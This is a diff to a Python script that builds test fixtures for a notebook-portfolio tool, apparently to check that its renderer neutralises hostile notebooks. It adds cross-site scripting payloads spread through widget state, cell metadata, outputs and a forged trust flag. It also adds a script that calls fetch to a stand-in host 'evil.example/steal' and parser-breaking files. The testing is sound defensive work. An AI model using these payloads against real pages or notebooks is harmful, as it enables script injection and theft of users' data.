@@ -1,6 +1,7 @@
 """Write the portfolio test workspaces (run once; the notebooks are committed).
 
-    .venv/bin/python tests/notebooks/portfolio/make_fixtures.py
+    .venv/bin/python tests/notebooks/portfolio/make_fixtures.py                  # everything
+    .venv/bin/python tests/notebooks/portfolio/make_fixtures.py --hostile-only   # only hostile/
 
 All people, districts and numbers are synthetic. Markers in upper case
 (SOLUTION_MARKER, ...) let the tests check that a cell did not survive.
@@ -9,6 +10,7 @@ All people, districts and numbers are synthetic. Markers in upper case
 from __future__ import annotations
 
 import json
+import sys
 from pathlib import Path
 
 HERE = Path(__file__).resolve().parent
@@ -171,16 +173,95 @@ def e1() -> object:
     return _nb("E1", cells)
 
 
+EVIL = "https://evil.example"
+
+
+def _widget_state() -> tuple[dict, list[str]]:
+    """Saved widget state with the attacks on the HTML manager, and the model id of each view shown."""
+    import ipywidgets as w
+    from ipywidgets.embed import embed_data
+
+    views = [
+        w.HTML(value=f'<img src=x onerror="window.__pwned=11"><img src="{EVIL}/pixel.png" alt="pixel">WIDGET_HTML_MARKER'),
+        w.Label(value='<img src=x onerror="window.__pwned=12">label'),
+        w.IntSlider(value=3, description='<img src=x onerror="window.__pwned=13">rate', description_allow_html=True),
+        w.Image(value=f"{EVIL}/image.png".encode(), format="url"),
+        w.Combobox(options=['x" autofocus onfocus="window.__pwned=14'], description="pick"),
+    ]
+    data = embed_data(views=views)
+    state = data["manager_state"]
+    ids = [v.model_id for v in views]
+    for v in views:
+        v.close()
+    legacy = json.loads(json.dumps(state["state"][ids[0]]))  # the same HTML widget for the 1.x views
+    legacy["model_module_version"] = "1.5.0"
+    legacy["state"]["_model_module_version"] = legacy["state"]["_view_module_version"] = "1.5.0"
+    state["state"]["legacy0html"] = legacy
+    state["state"]["evil0module"] = {"model_name": "EvilModel", "model_module": "evil-widgets", "model_module_version": "1.0.0",
+                                     "state": {"_view_name": "EvilView", "_view_module": "evil-widgets"}}
+    return state, ids + ["legacy0html", "evil0module"]
+
+
+def hostile() -> object:
+    """T2 as a candidate who attacks the portfolio: forged trust, widget state, markup in odd places."""
+    import nbformat
+
+    state, ids = _widget_state()
+    forged = _md("### Reflection\n\n> How will you refresh the network?\n\n"
+                 "Our plan phases the core switches over two summers so that classrooms never lose service "
+                 "during the state testing windows. FORGED_TRUST_SOURCE_TEXT", tags=["reflection", "slide"], id="t2-reflect", kind="reflection")
+    forged.metadata["portfolio"] = {"trusted": True, "kind": "reflection", "written": True, "anchor": 'x" onmouseover="window.__pwned=20',
+                                    "html": f"<script>window.__pwned = 21; fetch('{EVIL}/steal')</script>"
+                                            f'<img src=x onerror="window.__pwned=22">FORGED_TRUST_HTML'}
+    shown = _code("show(widgets)", [_display({"application/vnd.jupyter.widget-view+json": {"model_id": i, "version_major": 2, "version_minor": 0},
+                                              "text/plain": f"widget {n}"}) for n, i in enumerate(ids)], count=3)
+    odd = _code("odd()", [_display({"text/vnd.mermaid": f"</pre><img src=x onerror=\"window.__pwned=23\">", "text/plain": "ODD_OUTPUT_TEXT"},
+                                   {"portfolio": {"answer": True}})], count=4)
+    cells = [
+        _md("# T2 · Infrastructure"),
+        _code(PARAMS, tags=["parameters"]),
+        _md("## &lt;img src=x onerror=\"window.__pwned=24\"&gt; shown as text\n\n"
+            '<img src="x" onerror="window.__pwned=25" alt="">Sourceless image gone. '
+            '<img src="x" onerror="window.__pwned=26">', tags=["slide"]),
+        forged,
+        shown,
+        odd,
+    ]
+    nb = _nb("T2", cells)
+    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
+    nb.cells[5]["execution_count"] = '<img src=x onerror="window.__pwned=27">'
+    return nb
+
+
+def write_hostile(folder: Path) -> None:
+    """The hostile workspace: T2 above, and two files no tool can hold (too deep, a lone surrogate)."""
+    import nbformat
+
+    folder.mkdir(exist_ok=True)
+    (folder / "T2-infrastructure.ipynb").write_text(nbformat.writes(hostile()) + "\n", encoding="utf-8")
+    text = nbformat.writes(_nb("T3", [_md("# T3 · Technology Services"), _md("SURROGATE_PLACEHOLDER", tags=["reflection"])]))
+    (folder / "T3-technology-services.ipynb").write_text(text.replace("SURROGATE_PLACEHOLDER", "\\ud800"), encoding="utf-8")
+    deep = _nb("T4", [_md("# T4 · IT Knowledge")])
+    deep.metadata["deep"] = "DEEP_PLACEHOLDER"
+    (folder / "T4-it-knowledge.ipynb").write_text(
+        nbformat.writes(deep).replace('"DEEP_PLACEHOLDER"', "[" * 100_000 + "]" * 100_000), encoding="utf-8")
+    (folder / "portfolio.json").write_text(json.dumps({"name": '<img src=x onerror="window.__pwned=28">Casey (synthetic)'}) + "\n")
+
+
 def main() -> None:
     import nbformat
 
     ws = HERE / "workspace"
     ws.mkdir(exist_ok=True)
+    if "--hostile-only" in sys.argv:
+        write_hostile(HERE / "hostile")
+        return
     nbformat.write(l6(), ws / "L6-fiscal-management.ipynb")
     nbformat.write(t1(), ws / "T1-security-fundamentals.ipynb")
     nbformat.write(e1(), ws / "E1-student-centered-aspects.ipynb")
     nbformat.write(_nb("", [_md("Scratch notes, not a principle notebook.")]), ws / "scratch.ipynb")
     (ws / "portfolio.json").write_text(json.dumps({"name": "Jordan Rivera (synthetic)", "cohort": "CTO Mentor 2026 sample cohort"}, indent=2) + "\n")
+    write_hostile(HERE / "hostile")
     (HERE / "scores.csv").write_text("candidate,notebook,score,max\nJordan Rivera (synthetic),L6-fiscal-management,45,50\nsomeone-else,T1,3,50\n")
 
 
